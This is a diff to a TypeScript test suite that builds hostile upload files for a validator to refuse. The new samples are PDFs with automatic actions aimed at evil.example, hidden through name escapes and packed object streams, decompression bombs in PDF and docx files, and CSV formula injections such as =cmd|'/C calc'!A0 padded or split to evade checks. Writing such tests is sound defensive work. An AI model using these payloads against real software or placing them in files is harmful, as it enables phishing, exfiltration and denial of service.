@@ -18,6 +18,7 @@ export type Why =
   | "HEIC"
   | "outside"
   | "acts"
+  | "by itself"
   | "commands";
 
 export interface HostileFile {
@@ -64,6 +65,26 @@ const packedPdf = (objects: string): Buffer => {
     "\nendstream endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n",
   );
 };
+/** A PDF whose catalog says this, and further objects; objects 2 and up. */
+const opening = (catalog: string, ...objects: string[]): Buffer =>
+  latin(
+    `%PDF-1.7\n1 0 obj<</Type/Catalog${catalog}>>endobj\n${objects.map((one, i) => `${i + 2} 0 obj${one}endobj\n`).join("")}trailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`,
+  );
+/** The same with object 2 packed, in a stream that is described as `head` says. */
+const openingPacked = (object: string, head = "/Type/ObjStm", spoil = (packed: Buffer): Buffer => packed): Buffer => {
+  const packed = spoil(deflateSync(latin(`2 0 ${object}`)));
+  return bytes(
+    "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n",
+    `5 0 obj<<${head}/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`,
+    packed,
+    "\nendstream endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n",
+  );
+};
+const megabyte = 1024 * 1024;
+const repeated = (unit: string, size = megabyte): Buffer => Buffer.alloc(size, unit, "latin1");
+/** Bytes that do not pack, so that the others may pack well. */
+const noise = (size: number): Buffer =>
+  Buffer.from(Uint8Array.from({ length: size }, (_none, i) => (i * i * 7919) >> 5));
 const relationship = (type: string, target: string, part = "word/_rels/settings.xml.rels"): Buffer =>
   openXml("docx", {
     name: part,
@@ -181,6 +202,11 @@ const images: readonly HostileFile[] = [
       .webp({ effort: 0 })
       .toBuffer(),
   ),
+  refused("pixels", "a photo of 26 million pixels that comes from coarse to fine", "large.jpg", () =>
+    sharp({ create: { width: 5100, height: 5100, channels: 3, background: "#888" } })
+      .jpeg({ progressive: true })
+      .toBuffer(),
+  ),
   refused("damaged", "half a picture", "half.png", () => aPng(200, 200).subarray(0, 90)),
   refused("damaged", "half a photo", "half.jpg", async () => (await grey(400, 400).jpeg().toBuffer()).subarray(0, 900)),
   refused("kind", "the first eight bytes of a picture", "sign.png", () => Buffer.concat([pngSignature, zeros(40)])),
@@ -214,6 +240,107 @@ const documents: readonly HostileFile[] = [
     aPdf("<</S/JavaScript/JS(app.alert(1))>>"),
   ),
   refused("acts", "a PDF whose script is written in digits", "js.pdf", () => aPdf("<</S/J#61vaScr#69pt/JS(x)>>")),
+  refused("by itself", "a PDF that opens an address by itself", "a.pdf", () =>
+    opening("/OpenAction<</S/URI/URI(https://evil.example)>>"),
+  ),
+  refused("by itself", "a PDF that sends a form by itself, elsewhere in the file", "a.pdf", () =>
+    opening("/OpenAction 2 0 R", "<</S/SubmitForm/F(https://evil.example)>>"),
+  ),
+  refused("by itself", "a PDF that opens another file by itself, written in digits", "a.pdf", () =>
+    opening("/Open#41ction 2 0 R", "<</#53/GoTo#52/F(\\\\\\\\evil.example\\\\x.pdf)>>"),
+  ),
+  refused("by itself", "a PDF that opens an attached file by itself", "a.pdf", () =>
+    opening("/OpenAction<</S/GoToE/T<</R/C>>>>"),
+  ),
+  refused("by itself", "a PDF that brings in data by itself", "a.pdf", () =>
+    opening("/OpenAction<</S/ImportData/F(a)>>"),
+  ),
+  refused("by itself", "a PDF that prints itself", "a.pdf", () => opening("/OpenAction<</S/Named/N/Print>>")),
+  refused("by itself", "a PDF that shows a page and then opens an address", "a.pdf", () =>
+    opening("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[2 0 R]>>", "<</S/URI/URI(https://evil.example)>>"),
+  ),
+  refused("by itself", "a PDF whose action is of a kind that stands elsewhere", "a.pdf", () =>
+    opening("/OpenAction<</S 2 0 R/URI(https://evil.example)>>", "/URI"),
+  ),
+  refused("by itself", "a PDF whose harmless action is an old version of another", "a.pdf", () =>
+    bytes(opening("/OpenAction 2 0 R", "<</S/URI/URI(x)>>"), opening("/OpenAction 2 0 R", "<</S/GoTo/D[3 0 R/Fit]>>")),
+  ),
+  refused("by itself", "a PDF with a page that opens an address when it is looked at", "a.pdf", () =>
+    opening("", "<</Type/Page/AA<</O 3 0 R>>>>", "<</S/URI/URI(https://evil.example)>>"),
+  ),
+  refused("by itself", "a PDF that opens an address when it is closed", "a.pdf", () =>
+    opening("/AA 2 0 R", "<</WC<</S/URI/URI(https://evil.example)>>>>"),
+  ),
+  refused("by itself", "a PDF whose action is packed", "a.pdf", () =>
+    openingPacked("<</S/URI/URI(https://evil.example)>>"),
+  ),
+  refused("by itself", "a PDF whose action is packed in a stream that does not say so", "a.pdf", () =>
+    openingPacked("<</S/URI/URI(https://evil.example)>>", ""),
+  ),
+  refused("acts", "a PDF whose script is packed, with a sum that is wrong", "a.pdf", () =>
+    openingPacked("<</S/JavaScript/JS(x)>>", "", (packed) => packed.fill(0, packed.length - 4)),
+  ),
+  refused("acts", "a PDF whose script is packed and said to be locked", "a.pdf", () =>
+    openingPacked("<</S/JavaScript/JS(x)>>", "/X(/Encrypt 9 0 R)"),
+  ),
+  refused("acts", "a PDF with objects that are written in steps", "a.pdf", () =>
+    openingPacked("<</S/GoTo>>", "/DecodeParms<</Predictor 12/Columns 4>>"),
+  ),
+  refused("damaged", "a PDF whose objects are packed and spoiled", "a.pdf", () =>
+    openingPacked("<</S/GoTo>>", "", (packed) => packed.fill(0x07, 2)),
+  ),
+  taken("a PDF that opens at a page", "a.pdf", () => opening("/OpenAction[2 0 R/XYZ null null 0]"), "application/pdf"),
+  taken(
+    "a PDF that goes to a page, and in circles",
+    "a.pdf",
+    () => opening("/OpenAction 2 0 R", "<</S/GoTo/D[3 0 R/Fit]/Next 2 0 R>>"),
+    "application/pdf",
+  ),
+  taken("a PDF that turns a page", "a.pdf", () => opening("/AA<</O<</S/Named/N/NextPage>>>>"), "application/pdf"),
+  taken(
+    "a PDF with a link to click on, and one that is pressed",
+    "a.pdf",
+    () =>
+      opening(
+        "/URI<</Base(https://www.example.jo)>>",
+        "<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://www.example.jo)>>>>",
+        "<</Type/Annot/Subtype/Widget/AA<</U<</S/SubmitForm/F(https://www.example.jo)>>>>>>",
+      ),
+    "application/pdf",
+  ),
+  taken(
+    "a megabyte of marks of packed objects",
+    "a.pdf",
+    () => bytes("%PDF-1.7\n", repeated(`${"/ObjStm".repeat(250)}/Filter/Fl stream\n`), "\n%%EOF\n"),
+    "application/pdf",
+  ),
+  refused("damaged", "a megabyte of objects, each within the one before", "a.pdf", () =>
+    bytes("%PDF-1.7\n", repeated("1 0 obj<<("), "\n%%EOF\n"),
+  ),
+  refused("damaged", "a thousand streams of objects out of the same bytes", "a.pdf", () =>
+    bytes(
+      "%PDF-1.7\n",
+      repeated("1 0 obj<</N 1/First 4/Filter/FlateDecode>>stream\n", 50_000),
+      deflateSync(zeros(15 * megabyte)),
+      "\nendstream\n%%EOF\n",
+    ),
+  ),
+  refused("unpacked", "streams of objects that become fifty megabytes", "a.pdf", () => {
+    const packed = deflateSync(zeros(15 * megabyte));
+    const one = bytes("1 0 obj<</N 1/First 4/Filter/FlateDecode>>stream\n", packed, "\nendstream endobj\n");
+    return bytes("%PDF-1.7\n", one, one, one, one, "%%EOF\n");
+  }),
+  refused("unpacked", "a letter of a few hundred kilobytes with forty megabytes of fields", "a.docx", () =>
+    openXml(
+      "docx",
+      { name: "word/header1.xml", data: repeated("<w:instrText>&lt;<", 20 * megabyte) },
+      { name: "word/header2.xml", data: repeated("<w:instrText>&lt;<", 20 * megabyte) },
+      { name: "word/media/image1.png", data: noise(400_000), stored: true },
+    ),
+  ),
+  refused("damaged", "an archive with names as long as books", "a.docx", () =>
+    openXml("docx", { name: `${"activeX/".repeat(7000)}\n`, data: "x" }),
+  ),
   refused("acts", "a PDF that starts a program", "a.pdf", () => aPdf("<</S/Launch/F(cmd.exe)>>")),
   refused("acts", "a PDF with files attached", "a.pdf", () => aPdf("<</Names<</EmbeddedFiles 5 0 R>>>>")),
   refused("acts", "a PDF whose script is packed", "a.pdf", () => packedPdf("1 0 <</S/JavaScript/JS(app.alert(1))>>")),
@@ -443,6 +570,20 @@ const texts: readonly HostileFile[] = [
   refused("commands", "a table that calls up an address within a formula", "a.csv", () =>
     latin('"=IF(1,WEBSERVICE(""https://evil.example""),2)"\n'),
   ),
+  taken(
+    "a megabyte of beginnings of commands",
+    "a.csv",
+    () => repeated(`${"\n".repeat(21)}=${"a|".repeat(250)}`),
+    "text/csv",
+  ),
+  refused("commands", "a table that starts a program behind more blanks than anybody types", "a.csv", () =>
+    latin(`${" ".repeat(5000)}=cmd${" ".repeat(5000)}|'/C calc'!A0\n`),
+  ),
+  refused("commands", "a table that starts a program across two pieces of a long table, with a comma", "a.csv", () =>
+    latin(`${"a,b\n".repeat(65_535)}"=cmd|'/C a, b'!A0"\n`),
+  ),
+  refused("commands", "a table that calls a registered function", "a.csv", () => latin("=REGISTER.ID(a)\n")),
+  taken("a table of remarks", "a.csv", () => latin('- my id (7),"- a list; of calls"\n-,"5""-6"" | x"\n'), "text/csv"),
   taken(
     "a table with sums and telephone numbers",
     "a.csv",
